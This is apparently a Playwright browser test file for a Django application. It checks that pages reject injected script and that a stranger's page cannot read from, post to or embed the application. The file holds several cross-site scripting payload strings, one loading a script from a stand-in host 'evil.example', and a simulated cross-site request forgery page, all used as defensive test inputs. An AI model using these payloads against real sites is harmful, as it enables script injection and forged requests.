"""In the browser: nothing foreign runs on a page, and no stranger's page gets at the vault."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import Page, expect

from tests.browser.conftest import Window

pytestmark = pytest.mark.browser

# What an attacker who can write into a page would try; each gives what came of it.
ATTEMPTS = {
    "text into a page": "document.body.innerHTML = '<b>x</b>'",
    "text beside a page": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "text as a document": "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    "text as an element's act": "document.body.setAttribute('onclick', 'window.ran = 1')",
    "text as code": "setTimeout('window.ran = 1')",
    "a policy of one's own": "trustedTypes.createPolicy('mine', {createHTML: (t) => t})",
    "a script from text": "document.createElement('script').textContent = 'window.ran = 1'",
    "a script from elsewhere": "document.createElement('script').src = 'https://evil.example/x.js'",
}
TRY = """
() => { try { %s; return 'done'; } catch (error) { return error.name; } }
"""
STRANGER = """<!doctype html><title>A stranger's page</title>
<form id="form" method="post" action="{vault}/theme/"><input name="theme" value="dark"></form>
<iframe src="{vault}/library/"></iframe><img src="{vault}/static/icons/favicon.svg" alt="">
<script>
  const said = (what, how) => document.title += ` ${{what}}=${{how}}`;
  document.querySelector("img").onload = () => said("img", "seen");
  fetch("{vault}/healthz").then(() => said("fetch", "read"), () => said("fetch", "refused"));
  fetch("{vault}/theme/", {{method: "POST", mode: "no-cors", credentials: "include"}})
    .then(() => said("post", "answered"), () => said("post", "refused"));
</script>"""


@pytest.fixture
def stranger(address: str) -> Iterator[str]:
    """A site of somebody else, at another port of this machine."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(STRANGER.format(vault=address).encode())

        def log_message(self, *_: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


def test_nothing_becomes_script_on_any_kind_of_page(page: Page, complaints: list[str]) -> None:
    for path in ("/library/", "/account/people/", "/nowhere/", "/progress/", "/study/", "/chat/"):
        page.goto(path)
        for what, code in ATTEMPTS.items():
            assert page.evaluate(TRY % code) == "TypeError", what
    assert page.evaluate("window.ran") is None
    complaints.clear()  # each attempt was complained of


def test_the_admin_keeps_the_policy_too(page: Page, complaints: list[str]) -> None:
    """Its pages are used as they are: not one thing of them is refused."""
    for path in ("", "library/document/", "library/workspace/", "library/workspace/add/",
                 "library/category/", "study/job/", "django_q/success/"):  # fmt: skip
        page.goto(f"/admin/{path}")
        expect(page.locator("#content")).to_be_visible()
    assert complaints == []


def test_a_strangers_page_gets_nothing_done(
    window: Window, alice: User, address: str, stranger: str, complaints: list[str]
) -> None:
    with window(alice) as page:
        page.goto(stranger)
        page.wait_for_function("document.title.match(/post=/) && document.title.match(/fetch=/)")
        assert "fetch=refused" in page.title() and "post=refused" in page.title()
        assert "img=seen" not in page.title()
        page.locator("#form").evaluate("(form) => form.submit()")
        page.wait_for_url(f"{address}/theme/")
        expect(page.get_by_role("heading")).to_have_text("This came from another site")
        assert [c["name"] for c in page.context.cookies() if c["name"] == "theme"] == []
        complaints.clear()
